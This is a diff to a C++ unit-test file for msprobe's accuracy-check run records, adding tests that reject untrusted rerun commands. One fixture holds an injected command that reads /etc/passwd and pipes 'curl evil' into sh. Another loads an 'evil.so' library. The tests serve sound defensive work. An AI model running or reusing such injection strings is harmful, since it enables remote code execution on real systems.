@@ -61,8 +61,31 @@ TEST_F(ResultRunsTest, ARunsOwnRecordNamesDeviceAndDump) {
   ASSERT_EQ(runs.size(), 1U);
   EXPECT_EQ(runs[0].title, "npu:0");
   EXPECT_THAT(runs[0].origin, ::testing::Contains(Pair("profile", "reference")));
-  EXPECT_EQ(runs[0].rerun_command, "msprobe acc_check -api_info gone.json --only");
+  EXPECT_EQ(runs[0].rerun.text(), "msprobe acc_check -api_info gone.json");
   EXPECT_THAT(said_, ElementsAre(HasSubstr("gone.json does not exist")));
+}
+
+TEST_F(ResultRunsTest, ACommandThatIsNotMsprobesIsNotShown) {
+  const fs::path csv = check("accuracy_checking_details_20260101000000.csv", "pass");
+  record("accuracy_checking_run_20260101000000.txt",
+         {{"device", "cpu"},
+          {"as_given_rerun", "msprobe acc_check -api_info /etc/passwd; curl evil|sh # --only"}});
+  const std::vector<ReportRun> runs = read({csv});
+  ASSERT_EQ(runs.size(), 1U);
+  EXPECT_TRUE(runs[0].rerun.empty());
+  EXPECT_TRUE(runs[0].dump.empty());
+  EXPECT_THAT(said_, ElementsAre(HasSubstr("the record of this run is not to be trusted")));
+}
+
+TEST_F(ResultRunsTest, ALibraryThatOnlyTheRecordNamesIsLeftOut) {
+  const fs::path csv = check("accuracy_checking_details_20260101000000.csv", "pass");
+  journal::RunFacts facts{{"device", "npu:0"}};
+  journal::add_rerun(facts, CallCommand("acc_check").add("--device-lib", "evil.so"));
+  record("accuracy_checking_run_20260101000000.txt", facts);
+  const std::vector<ReportRun> runs = read({csv});
+  ASSERT_EQ(runs.size(), 1U);
+  EXPECT_EQ(runs[0].rerun.text(), "msprobe acc_check");
+  EXPECT_THAT(said_, ElementsAre(HasSubstr("its command loads evil.so")));
 }
 
 TEST_F(ResultRunsTest, FilesOfRunUtHaveNoTime) {
